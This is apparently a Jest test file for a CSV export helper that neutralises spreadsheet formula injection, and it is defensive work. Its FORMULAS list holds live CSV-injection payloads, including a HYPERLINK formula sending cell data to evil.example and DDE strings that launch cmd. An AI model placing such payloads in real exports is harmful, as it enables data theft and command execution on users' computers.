import { Writable } from 'node:stream';
import { describe, expect, it } from '@jest/globals';
import { spreadsheetSafe, writeCsv } from './csv.ts';

/** RFC 4180 read back (quoted cells may hold commas, quotes and line breaks). */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (quoted || (char !== ',' && char !== '\n')) {
      cell += char;
    } else {
      row.push(cell);
      cell = '';
      if (char === '\n') {
        rows.push(row);
        row = [];
      }
    }
  }
  return rows;
}

/** What writeCsv writes for the rows, read back cell by cell (the byte-order mark dropped). */
async function written(rows: Record<string, string>[], columns: string[]): Promise<string[][]> {
  let text = '';
  const out = new Writable({
    write(chunk: Buffer, _encoding, done) {
      text += chunk.toString('utf8');
      done();
    },
  });
  await writeCsv(
    (async function* () {
      yield* rows;
    })(),
    columns,
    out,
  );
  return parse(text.replace(/^\uFEFF/, ''));
}

/** Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), as someone could type them. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\n\t @SUM(A1)',
  '\u00a0=1+1',
  '\uFF1D1+1',
  '-',
  '-1.00+cmd|x',
];

describe('the one CSV writer', () => {
  it.each(FORMULAS)('a cell %j is written as text: a quote in front', (value) => {
    expect(spreadsheetSafe(value)).toBe(`'${value}`);
  });

  it('leaves plain text, ids and times, and keeps amounts — negative ones too — as numbers', () => {
    for (const value of [
      'Blue mug',
      'pay_01J9ZZ',
      '2026-11-29T06:00:00.000Z',
      '12.50',
      '-1.00',
      '-0.000001',
      '0',
      '',
      'a=b',
      'ann@shop.example',
    ])
      expect(spreadsheetSafe(value)).toBe(value);
  });

  it('makes every cell of every column safe, whatever the column', async () => {
    const rows = FORMULAS.map((value, index) => ({ id: String(index), target: value, after: value, amount: '-1.00' }));
    const cells = await written(rows, ['id', 'target', 'after', 'amount']);
    expect(cells[0]).toEqual(['id', 'target', 'after', 'amount']);
    for (const [index, value] of FORMULAS.entries()) expect(cells[index + 1]).toEqual([String(index), `'${value}`, `'${value}`, '-1.00']);
  });
});
